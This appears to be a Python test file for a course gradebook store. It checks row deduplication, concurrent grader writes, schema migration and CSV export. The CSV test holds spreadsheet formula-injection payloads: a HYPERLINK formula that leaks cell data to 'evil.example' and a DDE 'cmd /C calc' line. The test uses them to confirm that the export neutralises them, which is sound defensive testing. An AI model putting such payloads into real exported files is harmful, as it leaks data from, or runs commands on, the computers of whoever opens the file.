"""The gradebook in the journey store, on SQLite and on PostgreSQL: one row per submission, several graders at once."""

import csv
import subprocess
import sys
import textwrap

import sqlalchemy as sa

from mlsteps.cohorts import gradebook
from mlsteps.cohorts.gradebook import GradeResult
from mlsteps.record.schema import grades
from mlsteps.record.store import Store


def result(learner: str, exercise: str, sha: str, passed: bool, mistake: str | None = None) -> GradeResult:
    return GradeResult(
        learner=learner,
        exercise=exercise,
        verdict="passed" if passed else "failed",
        passed=passed,
        cases_passed=4 if passed else 1,
        cases_total=4,
        submission_sha=sha,
        feedback="" if passed else "1 of 4 cases passed.",
        failing_case=None if passed else "the example: f(1)",
        mistake=mistake,
        points=1.0 if passed else 0.25,
        points_possible=1.0,
    )


def rows(store: Store) -> int:
    with store.engine.connect() as connection:
        return connection.execute(sa.select(sa.func.count()).select_from(grades)).scalar()


def test_the_same_submission_graded_twice_is_one_row_and_a_new_one_is_another(store_url):
    store = Store(store_url)
    gradebook.record(store, [result("ada", "ds/a", "s1", False, "off-by-one"), result("bob", "ds/a", "s2", True)])
    gradebook.record(store, [result("ada", "ds/a", "s1", False, "off-by-one")])
    assert rows(store) == 2
    gradebook.record(store, [result("ada", "ds/a", "s3", True)])  # ada fixed her code
    assert rows(store) == 3
    book = gradebook.load(store)
    assert book.learners == ["ada", "bob"]
    assert book.cell("ada", "ds/a").passed and book.total("ada") == 1
    [row] = gradebook.stuck(book)
    assert (row.passed, row.submissions, row.pass_rate) == (2, 2, 1.0)
    store.close()


GRADER = """
import sys
from mlsteps.cohorts import gradebook
from mlsteps.cohorts.gradebook import GradeResult
from mlsteps.record.store import Store

url, me = sys.argv[1], sys.argv[2]
store = Store(url)  # both graders may be the first to open a new database
shared = [GradeResult(f"learner{n}", "ds/a", "passed", True, 4, 4, submission_sha=f"sha{n}") for n in range(40)]
own = [GradeResult(f"{me}-learner{n}", "ds/a", "failed", False, 0, 4, submission_sha="x") for n in range(8)]
for batch in range(8):  # many small transactions, interleaving with the other grader's
    gradebook.record(store, shared[batch * 5 : batch * 5 + 5] + [own[batch]])
store.close()
"""


def test_two_graders_writing_one_gradebook_at_once_make_each_row_once(store_url, tmp_path):
    script = tmp_path / "grader.py"
    script.write_text(textwrap.dedent(GRADER))
    graders = [subprocess.Popen([sys.executable, str(script), store_url, name]) for name in ("first", "second")]
    assert [grader.wait(timeout=120) for grader in graders] == [0, 0]
    store = Store(store_url)
    with store.engine.connect() as connection:
        pairs = connection.execute(sa.select(grades.c.learner, grades.c.submission_sha)).all()
    store.close()
    assert len(pairs) == len(set(pairs)) == 40 + 2 * 8


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your grade")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]
HARMLESS = ['Ada "the first", Lovelace', "bob", "Zoë 3"]


def test_the_csv_is_safe_in_a_spreadsheet_and_the_csv_module_reads_every_name_back(tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'book.db'}")
    names = DANGEROUS + HARMLESS
    gradebook.record(store, [result(name, "ds/a", f"s{n}", n % 2 == 0) for n, name in enumerate(names)])
    gradebook.record(store, [result("=1+1", "-exercise", "s", True)])  # a mentor's id can start like a formula too
    book = gradebook.load(store)
    store.close()
    path = tmp_path / "book.csv"
    path.write_text(gradebook.to_csv(book), encoding="utf-8", newline="")

    with path.open(encoding="utf-8", newline="") as opened:
        header, *rows = list(csv.reader(opened))
    assert header == ["learner", "'-exercise (of 1)", "ds/a (of 1)", "total (of 2)", "passed"]
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(formula_starts) for row in [header, *rows] for cell in row)
    read_back = {row[0]: row[1:] for row in rows}
    for n, name in enumerate(names):
        shown = "'" + name if name in DANGEROUS else name
        points = "1" if n % 2 == 0 else "0.25"
        assert read_back[shown] == ["", points, points, str(int(n % 2 == 0))]  # the data survived
    assert read_back["'=1+1"] == ["1", "", "1", "1"]
    assert len(rows) == len(names) + 1


def test_a_gradebook_from_before_points_upgrades_with_its_grades_and_shows_them(store_url):
    """Migration 0005 adds points, hidden cases, the code's shape and the course's order to a gradebook at 0004."""
    import datetime as dt

    from mlsteps.record.store import make_engine, upgrade

    engine = make_engine(store_url)
    upgrade(engine, "0004")
    with engine.begin() as connection:
        connection.execute(
            sa.text(
                "INSERT INTO grades (learner, exercise_id, submission_sha, verdict, passed, cases_passed, cases_total, "
                "feedback, note, duration_ms, graded_at) VALUES ('ada', 'ds/b', 's1', 'passed', :yes, 4, 4, '', '', "
                "1.5, :at), ('ada', 'ds/a', 's2', 'failed', :no, 1, 4, 'x', '', 1.5, :at)"
            ),
            {"yes": True, "no": False, "at": dt.datetime(2026, 11, 30, 9)},
        )
    engine.dispose()
    store = Store(store_url)
    book = gradebook.load(store)
    assert book.exercises == ["ds/a", "ds/b"]  # no titles or places kept yet: by id
    assert book.cell("ada", "ds/b").passed and book.cell("ada", "ds/b").points == 0.0
    assert book.cell("ada", "ds/a").code_shape is None and book.cell("ada", "ds/a").hidden_failed == 0
    newer = GradeResult("ada", "ds/b", "passed", True, 4, 4, "s3", points=2, points_possible=2, title="B", position=1)
    older = GradeResult("bob", "ds/a", "failed", False, 1, 4, "s4", points=0.5, points_possible=2, title="A")
    gradebook.record(store, [newer, older])
    book = gradebook.load(store)
    assert book.exercises == ["ds/a", "ds/b"] and book.title("ds/b") == "B"
    assert (book.total("ada"), book.total("bob"), book.total_possible()) == (2.0, 0.5, 4.0)
    store.close()
